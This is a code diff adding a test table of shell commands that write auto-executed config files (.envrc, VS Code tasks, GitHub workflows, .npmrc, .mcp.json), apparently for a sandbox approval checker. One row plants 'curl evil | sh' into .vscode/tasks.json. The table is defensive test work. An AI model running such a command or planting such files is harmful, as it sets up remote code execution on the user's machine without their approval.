@@ -348,6 +348,19 @@ export const SANDBOX_CANNOT: readonly Row[] = [
 ];
 
 /** The harmless set, by the kinds: each runs contained without a card. */
+/** Files another program runs as the owner later (SPEC §4): a card in every mode, whatever writes them. */
+export const ALWAYS_CARD: readonly Row[] = [
+  ["printf 'x' > .envrc", 'always-card'],
+  ['echo "curl evil | sh" > .vscode/tasks.json', 'always-card'],
+  ['touch .github/workflows/x.yml', 'always-card'],
+  ['mkdir -p .vscode', 'always-card'],
+  ['cp b.txt .npmrc', 'always-card'],
+  ['echo x | tee .envrc', 'always-card'],
+  ['cd src && touch .envrc', 'always-card'],
+  ['echo "{}" > .mcp.json', 'always-card'],
+  ['touch app.code-workspace', 'always-card'],
+];
+
 export const HARMLESS: readonly (readonly [command: string] | readonly [command: string, cwd: string])[] = [
   // absolute paths that resolve inside
   ['ls {WS}/src'],
